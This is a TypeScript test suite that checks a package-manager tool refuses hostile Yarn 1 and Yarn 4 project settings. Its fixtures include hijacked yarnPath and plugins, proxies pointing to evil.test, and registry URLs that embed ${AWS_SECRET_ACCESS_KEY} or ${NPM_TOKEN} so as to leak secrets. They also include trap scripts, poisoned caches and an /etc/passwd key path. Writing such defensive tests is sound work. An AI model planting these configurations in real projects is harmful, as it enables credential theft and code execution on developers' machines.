import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import type { Operation } from '../../src/model/operation.ts';
import { byHand, install, never } from '../support/engine.ts';
import { run } from '../support/run-command.ts';
import { useManager, type ManagerSuite } from '../support/manager-suite.ts';
import { driverContextOf } from '../support/managers.ts';
import { tempFolder, type FileBody, type TempProject } from '../support/temp-project.ts';
import { publicHost } from '../support/public-registry.ts';

/** Code of a repository that leaves a mark where it is run, and the question whether it was. */
function trap(): { readonly code: string; readonly wasRun: () => boolean } {
  const mark = path.join(tempFolder('mark-'), 'ran.txt');
  return {
    code: `require('fs').writeFileSync(${JSON.stringify(mark)}, 'ran');\n`,
    wasRun: () => fs.existsSync(mark),
  };
}

function assertInstalled(operation: Operation): void {
  assert.equal(operation.status, 'succeeded', JSON.stringify(operation.error));
}

/** A git repository with a package whose every script is a trap. */
function gitPackage(code: string): string {
  const folder = tempFolder('git-');
  const scripts = Object.fromEntries(
    ['preinstall', 'install', 'postinstall', 'prepare', 'prepack'].map((name) => [name, 'node evil.js']),
  );
  fs.writeFileSync(path.join(folder, 'package.json'), JSON.stringify({ name: 'from-git', version: '1.0.0', scripts }));
  fs.writeFileSync(path.join(folder, 'evil.js'), code);
  const identity = ['-c', 'user.name=x', '-c', 'user.email=x@example.test'];
  for (const args of [
    ['init', '-q'],
    ['add', '.'],
    [...identity, 'commit', '-qm', 'x'],
  ]) {
    execFileSync('git', args, { cwd: folder });
  }
  return folder;
}

/** The refusal of a project with these files, before anything was touched. */
async function assertRefused(
  { project, open }: ManagerSuite,
  files: Readonly<Record<string, FileBody>>,
  named: RegExp,
  code = 'QM_PROJECT_HOOKS',
): Promise<void> {
  const app = project(files);
  const before = app.read('package.json');
  const operation = await install(await open(app), 'fx-tiny');
  assert.equal(operation.error?.code, code, JSON.stringify(operation.error));
  assert.match(operation.error.message, named);
  assert.deepEqual([app.read('package.json'), app.exists('node_modules')], [before, false]);
}

describe('a hostile repository with Yarn 1', () => {
  const suite = useManager('yarn-1');
  const { manager, project, open } = suite;

  it('brings no Yarn of its own', async () => {
    const { code, wasRun } = trap();
    const app = project({
      '.yarnrc': 'yarn-path "./evil.js"\n',
      '.yarnrc.yml': 'yarnPath: ./evil.js\n',
      'evil.js': code,
    });
    // A .yarnrc.yml makes it a project of a later Yarn, which an engine would not run this driver in.
    await manager.driver.resolve(driverContextOf(manager.tool, app.folder), never);
    await manager.driver.install(driverContextOf(manager.tool, app.folder), never);
    assert.equal(wasRun(), false);
  });

  it('puts no argument before ours', async () => {
    const outside = tempFolder('outside-');
    const app = project({
      '.yarnrc': [
        `--cwd "${outside}"`,
        `--modules-folder "${outside}/modules"`,
        `--cache-folder "${outside}/cache"`,
        `--mutex "file:${outside}/mutex"`,
        `--use-yarnrc "${outside}/.yarnrc"`,
        '--install.no-lockfile true',
        '--install.production true',
        '--install.audit true',
        '--install.force true',
        '--install.flat true',
        '--har true',
        '--ignore-scripts false',
      ].join('\n'),
    });
    assertInstalled(await install(await open(app), 'fx-with-deps'));
    assert.deepEqual(fs.readdirSync(outside), []);
    assert.match(app.read('yarn.lock'), /fx-tiny@\^1\.0\.0/);
    const kept = ['.npmrc', '.quartermaster', '.yarnrc', 'node_modules', 'package.json', 'yarn.lock'];
    assert.deepEqual(fs.readdirSync(app.folder).toSorted(), kept);
  });

  it('forces nothing by its settings', async () => {
    const app = project({ '.yarnrc': 'force true\n' });
    assertInstalled(await install(await open(app), 'fx-tiny'));
    const locked = app.read('yarn.lock');
    const manifest = app.readJson('package.json');
    app.write('package.json', { ...manifest, dependencies: { 'fx-tiny': '^1.2.0', '@fx/core': '^1.0.0' } });
    await assert.rejects(manager.driver.install(driverContextOf(manager.tool, app.folder), never), {
      code: 'QM_LOCKFILE_STALE',
    });
    assert.equal(app.read('yarn.lock'), locked);
  });

  it('has no cache that is believed', async () => {
    const app = project({ '.yarnrc': 'cache-folder "./cache"\n' });
    // As Yarn itself fills it, and then as somebody else would have it.
    app.write('package.json', { name: 'app', private: true, dependencies: { 'fx-tiny': '1.2.0' } });
    const env = { ...process.env, YARN_CACHE_FOLDER: app.path('cache') };
    const { file, prefix } = manager.tool;
    await run(file, [...prefix, 'install', '--ignore-scripts'], { cwd: app.folder, env });
    const files = fs.readdirSync(app.path('cache'), { recursive: true, encoding: 'utf8' });
    const index = files.filter((file) => file.endsWith('fx-tiny/index.js'));
    assert.equal(index.length, 1);
    app.write(`cache/${index[0]}`, 'module.exports = "poisoned";');
    for (const name of ['node_modules', 'yarn.lock']) app.delete(name);
    app.write('yarn.lock', '');
    app.write('package.json', { name: 'app', private: true });
    // Where it is set, it is the user's own choice, and wins.
    delete process.env['YARN_CACHE_FOLDER'];
    assertInstalled(await install(await open(app), 'fx-tiny'));
    assert.match(app.read('node_modules/fx-tiny/index.js'), /fx-tiny@1\.2\.0/);
  });

  it('has no mirror that is believed', async () => {
    const app = project({ '.yarnrc': 'yarn-offline-mirror "./mirror"\n' });
    assertInstalled(await install(await open(app), 'fx-tiny'));
    const [tarball] = fs.readdirSync(app.path('mirror'));
    const other = project({ '.yarnrc': 'yarn-offline-mirror "./mirror"\n' });
    assertInstalled(await install(await open(other), '@fx/core'));
    const [stranger] = fs.readdirSync(other.path('mirror'));
    fs.copyFileSync(other.path(`mirror/${stranger}`), app.path(`mirror/${tarball}`));
    for (const name of ['node_modules', 'package.json', 'yarn.lock']) app.delete(name);
    app.write('package.json', { name: 'app', private: true });
    app.write('yarn.lock', '');
    Object.assign(process.env, { YARN_CACHE_FOLDER: tempFolder('cache-') });
    const operation = await install(await open(app), 'fx-tiny');
    assert.equal(operation.error?.code, 'QM_INTEGRITY', JSON.stringify(operation.error));
  });

  it('has no package from git built', async () => {
    const { code, wasRun } = trap();
    const dependencies = { 'from-git': `git+file://${gitPackage(code)}` };
    const app = project({ 'package.json': { name: 'app', private: true, dependencies } });
    await manager.driver.resolve(driverContextOf(manager.tool, app.folder), never);
    await manager.driver.install(driverContextOf(manager.tool, app.folder), never);
    assert.equal(wasRun(), false);
    assert.equal(app.exists('node_modules/from-git/package.json'), true);
  });

  const outside: readonly (readonly [setting: string, file: string, line: string])[] = [
    ['cache-folder', '.yarnrc', 'cache-folder "/tmp/x"'],
    ['cache-folder', '.npmrc', 'cache-folder=../x'],
    ['cache-folder', '.yarnrc', String.raw`"cache\u002dfolder" "/tmp/x"`],
    ['global-folder', '.yarnrc', 'global-folder ../x'],
    ['yarn-offline-mirror', '.yarnrc', 'yarn-offline-mirror "~/mirror"'],
    ['yarn-offline-mirror', '.npmrc', '"yarn-offline-mirror" = ${YARN_HOME}/mirror'],
  ];
  for (const [setting, file, line] of outside) {
    it(`uses no files outside by ${line} in ${file}`, async () => {
      const registry = file === '.npmrc' ? `registry=${suite.registry().url}/\n` : '';
      await assertRefused(suite, { [file]: `${registry}${line}\n` }, new RegExp(`"${setting}" in ${file} .* outside`));
    });
  }

  it('gets no token for a host that is not the registry of what it locked there', async () => {
    const lockfile = [
      '# yarn lockfile v1',
      '',
      '"@corp/secret@^1.0.0":',
      '  version "1.0.0"',
      '  resolved "https://evil.test/@corp/secret/-/secret-1.0.0.tgz"',
      '',
    ].join('\n');
    const npmrc = `registry=${suite.registry().url}/\n//evil.test/:_authToken=x\n`;
    await assertRefused(
      suite,
      { 'yarn.lock': lockfile, '.npmrc': npmrc },
      /"\/\/evil\.test\/:_authToken" in \.npmrc .* secrets/,
    );
    const own = `${npmrc}@corp:registry=https://evil.test/\n`;
    const app = project({ 'yarn.lock': lockfile, '.npmrc': own });
    assertInstalled(await install(await open(app), 'fx-tiny'));
    const everybodys = {
      'yarn.lock': lockfile.replace('evil.test', publicHost),
      '.npmrc': npmrc.replace('evil.test', publicHost),
    };
    assertInstalled(await install(await open(project(everybodys)), 'fx-tiny'));
  });

  for (const line of [
    'https-proxy "http://evil.test"',
    'proxy "http://evil.test"',
    'noproxy "evil.test"',
    'no-proxy "evil.test"',
    'cafile "./ca.pem"',
    'ca "x"',
    'cert "x"',
    'key "x"',
    'strict-ssl false',
    'registry "http://${HOME}.test"',
  ]) {
    it(`does not stand between us and every registry by ${line}`, async () => {
      const [setting = ''] = line.split(' ');
      await assertRefused(suite, { '.yarnrc': `${line}\n`, 'ca.pem': 'x' }, new RegExp(`"${setting}" in \\.yarnrc`));
    });
  }

  it('changes nothing from a folder above', async () => {
    const app = project({
      '.yarnrc': 'strict-ssl false\n',
      'inner/package.json': { name: 'inner', private: true },
      'inner/yarn.lock': '# yarn lockfile v1\n',
      'inner/.npmrc': `registry=${suite.registry().url}/\n`,
    });
    const engine = await open(app);
    const request = { package: 'fx-tiny', range: undefined, manifest: 'inner', field: 'dependencies' } as never;
    const { operations } = await engine.install([request], byHand, never);
    assert.equal(operations[0]?.error?.code, 'QM_PROJECT_HOOKS', JSON.stringify(operations));
    assert.match(operations[0].error.message, /\.\.\/\.yarnrc/);
  });

  it('changes nothing from the folder in which it resolves, where others can write', async () => {
    for (const [name, text] of [
      ['.npmrc', 'registry=http://127.0.0.1:9/\n'],
      ['.yarnrc', 'registry "http://127.0.0.1:9/"\n'],
    ] as const) {
      const planted = path.join(process.env['TMPDIR'] ?? '/tmp', name);
      fs.writeFileSync(planted, text);
      try {
        const { status, error } = await install(await open(project()), 'fx-tiny');
        assert.deepEqual([status, error?.code], ['failed', 'QM_PROJECT_HOOKS']);
        assert.ok(error?.message.includes(planted), error?.message);
      } finally {
        fs.rmSync(planted);
      }
    }
    assertInstalled(await install(await open(project()), 'fx-tiny'));
  });
});

describe('a hostile repository with Yarn 4', () => {
  const suite = useManager('yarn-4');
  const { manager, project, open } = suite;
  /** The configuration of the project with more in it. */
  const configured = (more: object): string => {
    const marks = manager.marks(suite.registry())['.yarnrc.yml'] ?? '{}';
    return JSON.stringify({ ...(JSON.parse(marks) as object), ...more });
  };

  it('brings no Yarn of its own', async () => {
    const { code, wasRun } = trap();
    const app = project({ '.yarnrc.yml': configured({ yarnPath: './evil.cjs' }), 'evil.cjs': code });
    assertInstalled(await install(await open(app), 'fx-tiny'));
    assert.equal(wasRun(), false);
  });

  it('brings no plugin: the project is refused, and Yarn would not know of it', async () => {
    const { code, wasRun } = trap();
    const plugin = `module.exports = { name: 'evil', factory: () => { ${code} return { default: {} }; } };`;
    const files = { '.yarnrc.yml': configured({ plugins: ['./evil.cjs'] }), 'evil.cjs': plugin };
    await assertRefused(suite, files, /"plugins" in \.yarnrc\.yml .* run code/);
    const app = project({ ...files, 'package.json': { name: 'app', dependencies: { 'fx-tiny': '1.2.0' } } });
    await manager.driver.resolve(driverContextOf(manager.tool, app.folder), never);
    await manager.driver.install(driverContextOf(manager.tool, app.folder), never);
    assert.equal(app.exists('node_modules/fx-tiny/index.js'), true);
    assert.equal(wasRun(), false);
  });

  it('may still name the plugins that are part of Yarn now', async () => {
    const plugins = [{ path: '.yarn/plugins/x.cjs', spec: '@yarnpkg/plugin-workspace-tools' }];
    const app = project({ '.yarnrc.yml': configured({ plugins }) });
    assertInstalled(await install(await open(app), 'fx-tiny'));
    assert.equal(app.read('.yarnrc.yml'), configured({ plugins }));
  });

  it('brings no plugin from a folder above, and neither does who else can write there', async () => {
    const { code, wasRun } = trap();
    const plugin = `module.exports = { name: 'evil', factory: () => { ${code} return { default: {} }; } };`;
    const inner = {
      'inner/package.json': { name: 'inner' },
      'inner/yarn.lock': '',
      'inner/.npmrc': `registry=${suite.registry().url}/\n`,
    };
    const app = project({ '.yarnrc.yml': configured({ plugins: ['./evil.cjs'] }), 'evil.cjs': plugin, ...inner });
    const request = { package: 'fx-tiny', range: undefined, manifest: 'inner', field: 'dependencies' } as never;
    const { operations } = await (await open(app)).install([request], byHand, never);
    assert.equal(operations[0]?.error?.code, 'QM_PROJECT_HOOKS', JSON.stringify(operations[0]?.error));
    // The shadow stands below the system's temporary folder.
    const planted = [
      path.join(process.env['TMPDIR'] ?? '/tmp', '.yarnrc.yml'),
      path.join(process.env['TMPDIR'] ?? '/tmp', 'evil.cjs'),
    ];
    fs.writeFileSync(planted[0] ?? '', 'plugins: [./evil.cjs]\n');
    fs.writeFileSync(planted[1] ?? '', plugin);
    try {
      assertInstalled(await install(await open(project()), 'fx-tiny'));
    } finally {
      for (const file of planted) fs.rmSync(file);
    }
    assert.equal(wasRun(), false);
  });

  it('has no constraints run', async () => {
    const { code, wasRun } = trap();
    const app = project({ '.yarnrc.yml': configured({ enableConstraintsChecks: true }), 'yarn.config.cjs': code });
    assertInstalled(await install(await open(app), 'fx-tiny'));
    assert.equal(wasRun(), false);
  });

  it('has no generator run, wherever it is named', async () => {
    const { code, wasRun } = trap();
    const generator = 'exec:./evil.js';
    const meta = { dependenciesMeta: { evil: { built: true } } };
    const places: readonly (readonly [RegExp, Readonly<Record<string, FileBody>>])[] = [
      [/"evil" in package\.json/, { 'package.json': { name: 'app', dependencies: { evil: generator }, ...meta } }],
      [/"fx-tiny" in package\.json/, { 'package.json': { name: 'app', resolutions: { 'fx-tiny': generator } } }],
      [
        /"evil" in packages\/a\/package\.json/,
        {
          'package.json': { name: 'app', workspaces: ['packages/*'] },
          'packages/a/package.json': { name: 'a', devDependencies: { evil: `patch:evil@exec%3A./evil.js#./x.patch` } },
        },
      ],
      [
        /"evil" in yarn\.lock/,
        {
          'yarn.lock':
            '__metadata:\n  version: 10\n\n"evil@exec:./evil.js::locator=app%40workspace%3A.":\n  version: 0.0.0\n  resolution: "evil@exec:./evil.js#./evil.js::hash=1&locator=app%40workspace%3A."\n',
        },
      ],
    ];
    for (const [named, files] of places) await assertRefused(suite, { ...files, 'evil.js': code }, named);
    const app = project({ ...places[0]?.[1], '.yarnrc.yml': configured({ enableScripts: true }), 'evil.js': code });
    await assert.rejects(manager.driver.resolve(driverContextOf(manager.tool, app.folder), never), {
      code: 'QM_PROJECT_HOOKS',
    });
    assert.equal(wasRun(), false);
  });

  it('has no package from git built', async () => {
    const { code, wasRun } = trap();
    const url = 'https://git.example.test/from-git.git';
    Object.assign(process.env, {
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: `url.file://${gitPackage(code)}.insteadOf`,
      GIT_CONFIG_VALUE_0: url,
    });
    const dependencies = { 'from-git': url };
    const app = project({
      '.yarnrc.yml': configured({ approvedGitRepositories: ['**'], enableScripts: true }),
      'package.json': { name: 'app', dependencies },
    });
    await assert.rejects(manager.driver.resolve(driverContextOf(manager.tool, app.folder), never), {
      code: 'QM_PROJECT_HOOKS',
    });
    assert.equal(wasRun(), false);
  });

  it('hides no wrong archive, and has none accepted', async () => {
    for (const more of [
      { logFilters: [{ code: 'YN0018', level: 'discard' }] },
      { checksumBehavior: 'ignore' },
      { checksumBehavior: 'update' },
    ]) {
      const app = project({ '.yarnrc.yml': configured(more) });
      const engine = await open(app);
      assertInstalled(await install(engine, 'fx-tiny'));
      app.write('yarn.lock', app.read('yarn.lock').replace(/(checksum: 10c0\/)..../, '$10000'));
      const locked = app.read('yarn.lock');
      app.delete('node_modules');
      Object.assign(process.env, { YARN_GLOBAL_FOLDER: tempFolder('global-') });
      const operation = await engine.restore('', byHand, never);
      assert.equal(operation.error?.code, 'QM_INTEGRITY', JSON.stringify([more, operation.error]));
      assert.deepEqual([app.read('yarn.lock'), app.exists('node_modules/fx-tiny')], [locked, false]);
    }
  });

  it('has no archive that is believed', async () => {
    // Where it is set, it is the user's own choice, for every project.
    delete process.env['YARN_CACHE_FOLDER'];
    const files = { '.yarnrc.yml': configured({ enableGlobalCache: false }) };
    const app = project(files);
    assertInstalled(await install(await open(app), 'fx-tiny'));
    const other = project(files);
    assertInstalled(await install(await open(other), '@fx/core'));
    const archive = (from: TempProject): string =>
      fs.readdirSync(from.path('.yarn/cache')).find((name) => name.endsWith('.zip')) ?? '';
    const fresh = project(files);
    fs.mkdirSync(fresh.path('.yarn/cache'), { recursive: true });
    fs.copyFileSync(other.path(`.yarn/cache/${archive(other)}`), fresh.path(`.yarn/cache/${archive(app)}`));
    Object.assign(process.env, { YARN_GLOBAL_FOLDER: tempFolder('global-') });
    const before = fs.readFileSync(fresh.path(`.yarn/cache/${archive(app)}`));
    const operation = await install(await open(fresh), 'fx-tiny');
    assert.equal(operation.error?.code, 'QM_INTEGRITY', JSON.stringify(operation.error));
    assert.deepEqual(fs.readFileSync(fresh.path(`.yarn/cache/${archive(app)}`)), before);
  });

  it('stands in the way of no change by what it calls immutable', async () => {
    const more = {
      immutablePatterns: ['**/*'],
      enableImmutableInstalls: true,
      enableImmutableCache: true,
      nodeLinker: 'pnp',
    };
    const app = project({ '.yarnrc.yml': configured({ ...more, enableGlobalCache: false }) });
    assertInstalled(await install(await open(app), 'fx-tiny'));
    assert.equal(app.exists('.pnp.cjs'), true);
  });

  it('has nothing run of the map that it brought', async () => {
    const { code, wasRun } = trap();
    const app = project({
      '.yarnrc.yml': configured({ nodeLinker: 'pnp' }),
      '.pnp.cjs': code,
      'a.js': "import 'fx-tiny';",
    });
    const engine = await open(app);
    await engine.scan(never);
    assertInstalled(await install(engine, 'fx-tiny'));
    assert.equal(wasRun(), false);
    assert.match(app.read('.pnp.cjs'), /RAW_RUNTIME_STATE/);
  });

  const outside: readonly (readonly [setting: string, more: object])[] = [
    ['globalFolder', { globalFolder: './.yarn/global' }],
    ['cacheFolder', { enableGlobalCache: false, cacheFolder: '../cache' }],
    ['installStatePath', { installStatePath: '/tmp/state.gz' }],
    ['pnpUnpluggedFolder', { pnpUnpluggedFolder: '../unplugged' }],
    ['pnpmStoreFolder', { pnpmStoreFolder: '${HOME}/store' }],
    ['injectEnvironmentFiles', { injectEnvironmentFiles: ['.env.yarn?', '../../secrets?'] }],
  ];
  for (const [setting, more] of outside) {
    it(`uses no files outside by ${setting}`, async () => {
      await assertRefused(
        suite,
        { '.yarnrc.yml': configured(more) },
        new RegExp(`"${setting}" in .yarnrc.yml .* outside`),
      );
    });
  }

  it('gets no token by the address of an archive', async () => {
    const lockfile = (url: string): string =>
      `__metadata:\n  version: 10\n  cacheKey: 10c0\n\n"@corp/x@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "@corp/x@npm:1.0.0::__archiveUrl=${encodeURIComponent(url)}"\n  languageName: node\n  linkType: hard\n`;
    await assertRefused(
      suite,
      { 'yarn.lock': lockfile('https://evil.test/x.tgz') },
      /"@corp\/x" in yarn\.lock .* secrets/,
    );
    const scoped = configured({ npmScopes: { corp: { npmRegistryServer: 'https://npm.corp.test' } } });
    await assertRefused(suite, { 'yarn.lock': lockfile('https://evil.test/x.tgz'), '.yarnrc.yml': scoped }, /@corp/);
    const app = project({ 'yarn.lock': lockfile('https://npm.corp.test/download/x.tgz'), '.yarnrc.yml': scoped });
    assertInstalled(await install(await open(app), 'fx-tiny'));
  });

  const between: readonly (readonly [setting: string, more: object])[] = [
    ['httpsProxy', { httpsProxy: 'http://evil.test' }],
    ['httpProxy', { httpProxy: 'http://evil.test' }],
    ['httpsCaFilePath', { httpsCaFilePath: './ca.pem' }],
    ['httpsCertFilePath', { httpsCertFilePath: './cert.pem' }],
    ['httpsKeyFilePath', { httpsKeyFilePath: '/etc/passwd' }],
    ['networkSettings', { networkSettings: { '**': { httpProxy: 'http://evil.test' } } }],
    ['npmRegistryServer', { npmRegistryServer: 'https://${AWS_SECRET_ACCESS_KEY}.evil.test' }],
    ['npmRegistryServer', { npmRegistryServer: 'https://evil.test/${NPM_TOKEN}' }],
    ['npmScopes', { npmScopes: { corp: { npmRegistryServer: 'https://evil.test', npmAuthToken: '${NPM_TOKEN}' } } }],
    ['npmRegistries', { npmRegistries: { '//evil.test': { npmAuthIdent: '${NPM_TOKEN}' } } }],
  ];
  for (const [setting, more] of between) {
    it(`does not stand between us and every registry by ${JSON.stringify(more)}`, async () => {
      await assertRefused(suite, { '.yarnrc.yml': configured(more) }, new RegExp(`"${setting}" in \\.yarnrc\\.yml`));
    });
  }

  it('has no setting that nobody knows', async () => {
    await assertRefused(
      suite,
      { '.yarnrc.yml': configured({ runThis: './evil.js' }) },
      /"runThis" in \.yarnrc\.yml/,
      'QM_MANAGER_UNSUPPORTED',
    );
  });
});
